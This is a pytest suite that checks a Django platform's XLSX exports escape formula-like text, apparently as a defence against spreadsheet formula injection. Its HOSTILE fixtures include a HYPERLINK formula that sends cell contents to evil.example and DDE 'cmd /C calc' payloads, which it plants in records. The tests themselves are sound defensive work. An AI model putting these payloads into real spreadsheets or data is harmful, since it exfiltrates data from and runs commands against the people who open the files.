"""Every XLSX the platform writes keeps text as text: hostile names and summaries never become formulas.

The export list is checked against the URL resolver and the OpenAPI document, so a new XLSX download cannot ship
without being walked here. Time is frozen on Friday 20/11/2026.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl.cell import Cell

from danvan.api import api
from danvan.cases.models import CaseKind, Field
from danvan.core.models import AdministrativeUnit, Organization
from danvan.core.xlsx import looks_like_formula, xlsx_cell, xlsx_row
from danvan.initiatives.models import Field as InitiativeField
from danvan.initiatives.models import InitiativeKind, InitiativeLevel
from danvan.initiatives.services import FundingLine, initiative_register
from danvan.reception.models import VisitOutcome
from danvan.reception.services import VisitorIn, visit_record

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "fullwidth": "＝1+1",
    "unit": "=Xã Đồng Xuân",
    "field": "-Đất đai",
}

# Page routes and API paths that answer an XLSX file; the guard below finds them all by name or by content type.
PAGE_EXPORTS = {
    "reception:logbook_xlsx": {"start": "01/11/2026", "end": "20/11/2026"},
    "case_statistics:xlsx": {"year": "2026"},
    "democracy:statistics_xlsx": {"year": "2026"},
    "democracy:recommendation_inbox_xlsx": {},
    "democracy:recommendation_waiting_xlsx": {"state": "all"},
    "democracy:supervision_export": {},
    "democracy:staff_dialogues_xlsx": {},
    "democracy:electoral_areas_xlsx": {},
    "democracy:voter_contacts_xlsx": {},
    "democracy:statistics_ranking_xlsx": {"year": "2026"},
    "feedback_statistics:statistics_xlsx": {"year": "2026"},
    "initiatives:initiative_import_template": {},
    "initiatives:initiative_export": {},
    # reporting: a plan's table and a submission's annex, written through core.xlsx (xlsx_row / xlsx_cell); their
    # routes take the plan's or template's id, so the hostile walk below does not reach them yet.
    "reporting:plan_export": {},
    "reporting:submission_xlsx": {},
    "reporting:submission_template_xlsx": {},
}
API_EXPORTS = {
    "/api/v1/reception/logbook.xlsx": {"start": "2026-11-01", "end": "2026-11-20"},
    "/api/v1/initiatives/import-template": {},
    "/api/v1/initiatives/export": {},
    "/api/v1/democracy/supervisions/export.xlsx": {},
}


@pytest.fixture(autouse=True)
def frozen_today(time_machine):
    time_machine.move_to(dt.datetime(2026, 11, 20, 9, 0, tzinfo=dt.UTC))


@pytest.fixture
def hostile_data(cast):
    AdministrativeUnit.objects.filter(pk=cast.dong_xuan.pk).update(name=HOSTILE["unit"])
    land = Field.objects.get(code="dat-dai")
    Field.objects.filter(pk=land.pk).update(name=HOSTILE["field"])
    culture = InitiativeField.objects.get(code="culture_society")
    InitiativeField.objects.filter(pk=culture.pk).update(name=HOSTILE["field"])
    cast.dong_xuan.refresh_from_db()
    visit_record(
        actor=cast.alice,
        unit=cast.dong_xuan,
        visited_on=dt.date(2026, 11, 2),
        kind=CaseKind.FEEDBACK,
        summary=HOSTILE["at"],
        outcome=VisitOutcome.ANSWERED,
        answer=HOSTILE["minus"],
        already_handled_by=HOSTILE["plus"],
        visitors=[VisitorIn(HOSTILE["name"], HOSTILE["fullwidth"], "066090005555")],
    )
    initiative_register(
        actor=cast.alice,
        unit=cast.dong_xuan,
        organization=Organization.objects.get(unit=cast.dong_xuan, kind__code="peoples_committee"),
        kind=InitiativeKind.MODEL,
        name=HOSTILE["name"],
        field=InitiativeField.objects.get(pk=culture.pk),
        level=InitiativeLevel.COMMUNE,
        year=2026,
        goals=HOSTILE["plus"],
        content_method=HOSTILE["minus"],
        outputs=HOSTILE["at"],
        fundings=[FundingLine(HOSTILE["fullwidth"], 7_000_000)],
    )
    from danvan.democracy.recommendation_services import recommendation_raise

    recommendation_raise(
        actor=cast.alice,
        event=cast.dong_xuan,
        source="voter_contact",
        unit=cast.dong_xuan,
        raised_on=dt.date(2026, 11, 2),
        kind="recommendation",
        raised_by=HOSTILE["plus"],
        content=HOSTILE["name"],
        addressee="peoples_committee",
    )
    _hostile_supervision(cast)
    _hostile_contacts(cast)


def _hostile_supervision(cast):
    """A Front supervision whose topic and draft are hostile text (the supervision list's XLSX)."""
    from danvan.democracy.supervision_services import programme_create, supervision_plan

    front = Organization.objects.get(unit=cast.dong_xuan, kind__code="fatherland_front")
    committee = Organization.objects.get(unit=cast.dong_xuan, kind__code="peoples_committee")
    supervision_plan(
        actor=cast.alice,
        programme=programme_create(actor=cast.alice, organization=front, year=2026),
        kind="social_criticism",
        topic=HOSTILE["plus"],
        draft_title=HOSTILE["minus"],
        supervised_org=committee,
        method="meeting",
        starts_on=dt.date(2026, 11, 2),
        ends_on=dt.date(2026, 11, 3),
    )


def _hostile_contacts(cast):
    """A dialogue with staff, an electoral area and a voter contact whose words look like formulas."""
    from danvan.democracy import contact_services

    committee = Organization.objects.get(unit=cast.dong_xuan, kind__code="peoples_committee")
    contact_services.staff_dialogue_record(
        actor=cast.alice,
        organization=committee,
        held_on=dt.date(2026, 11, 5),
        chaired_by=HOSTILE["name"],
        participants=20,
        topics=HOSTILE["plus"],
    )
    area = contact_services.electoral_area_create(
        actor=cast.alice, unit=cast.dong_xuan, number=1, name=HOSTILE["name"], units=[], deputies=HOSTILE["at"]
    )
    contact_services.voter_contact_schedule(
        actor=cast.alice,
        area=area,
        unit=cast.dong_xuan,
        session_name=HOSTILE["minus"],
        timing="before",
        held_on=dt.date(2026, 11, 10),
        place=HOSTILE["fullwidth"],
    )


def _named_routes(resolver: URLResolver, prefix: str = "") -> list[tuple[str, str]]:
    """(name with namespace, route) of every page pattern."""
    found: list[tuple[str, str]] = []
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            namespace = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
            found += [(name, f"{pattern.pattern}{route}") for name, route in _named_routes(pattern, namespace)]
        elif isinstance(pattern, URLPattern) and pattern.name:
            found.append((f"{prefix}{pattern.name}", str(pattern.pattern)))
    return found


def test_the_export_list_covers_every_xlsx_page_and_operation():
    pages = {name for name, route in _named_routes(get_resolver()) if re.search(r"xlsx|export", route + name)}
    pages = {name for name in pages if not name.startswith(("api:", "admin:"))}
    assert pages == set(PAGE_EXPORTS)
    schema = api.get_openapi_schema(path_prefix="/api/v1")
    operations = {
        path
        for path, methods in schema["paths"].items()
        for operation in methods.values()
        for response in operation.get("responses", {}).values()
        if any("spreadsheetml" in kind for kind in response.get("content", {}))
    }
    assert operations == set(API_EXPORTS)


def _cells(content: bytes) -> list[Cell]:
    # No formula element at all in any sheet, whatever openpyxl makes of it on reading.
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text_only(content: bytes, expected: set[str]) -> None:
    cells = _cells(content)
    seen = set()
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str) and looks_like_formula(cell.value):
            assert cell.quotePrefix, (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            seen |= {value for value in expected if value in cell.value}
    assert seen == expected


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


EXPECTED = {
    "reception:logbook_xlsx": {HOSTILE["unit"], HOSTILE["name"], HOSTILE["at"], HOSTILE["plus"]},
    "case_statistics:xlsx": {HOSTILE["unit"]},
    "democracy:statistics_xlsx": {HOSTILE["unit"]},
    "democracy:recommendation_inbox_xlsx": {HOSTILE["unit"], HOSTILE["name"], HOSTILE["plus"]},
    "democracy:recommendation_waiting_xlsx": {HOSTILE["unit"], HOSTILE["name"], HOSTILE["plus"]},
    "democracy:supervision_export": {HOSTILE["unit"], HOSTILE["plus"], HOSTILE["minus"]},
    "democracy:staff_dialogues_xlsx": {HOSTILE["unit"], HOSTILE["name"], HOSTILE["plus"]},
    "democracy:electoral_areas_xlsx": {HOSTILE["unit"], HOSTILE["name"], HOSTILE["at"]},
    "democracy:voter_contacts_xlsx": {HOSTILE["unit"], HOSTILE["minus"], HOSTILE["fullwidth"]},
    "democracy:statistics_ranking_xlsx": {HOSTILE["unit"]},
    "feedback_statistics:statistics_xlsx": {HOSTILE["unit"]},
    "initiatives:initiative_import_template": {HOSTILE["field"]},
    "initiatives:initiative_export": {HOSTILE[key] for key in ("name", "plus", "minus", "at", "fullwidth", "field")},
}


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_every_xlsx_page_writes_hostile_text_as_text(client, cast, hostile_data, name):
    from django.urls import reverse

    client.force_login(cast.alice)
    response = client.get(reverse(name), PAGE_EXPORTS[name])
    assert response.status_code == 200, _body(response)[:500]
    _assert_text_only(_body(response), EXPECTED[name])


@pytest.mark.parametrize("path", sorted(API_EXPORTS))
def test_every_xlsx_operation_writes_hostile_text_as_text(client, cast, hostile_data, path):
    client.force_login(cast.alice)
    response = client.get(path, API_EXPORTS[path])
    assert response.status_code == 200, _body(response)[:500]
    page = {
        "/api/v1/reception/logbook.xlsx": "reception:logbook_xlsx",
        "/api/v1/initiatives/import-template": "initiatives:initiative_import_template",
        "/api/v1/initiatives/export": "initiatives:initiative_export",
        "/api/v1/democracy/supervisions/export.xlsx": "democracy:supervision_export",
    }[path]
    _assert_text_only(_body(response), EXPECTED[page])


@pytest.mark.parametrize("text", [*HOSTILE.values(), "\t=1+1", "\r=1+1", "  =1", "Bình thường"])
@pytest.mark.parametrize("write_only", [True, False])
def test_the_cell_helper_keeps_any_text_as_text(text, write_only):
    workbook = openpyxl.Workbook(write_only=write_only)
    sheet = workbook.create_sheet("Thử") if write_only else workbook.active
    sheet.append(xlsx_row(sheet, [text, 12, Decimal("1.5"), None, dt.date(2026, 1, 2)]))
    sheet.append([xlsx_cell(sheet, text, number_format="@")])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = [cell for cell in _cells(buffer.getvalue()) if cell.value is not None]
    assert [cell.value for cell in cells][:2] == [text, 12]
    assert cells[0].data_type == "s" and cells[-1].value == text
    assert cells[0].quotePrefix is looks_like_formula(text)
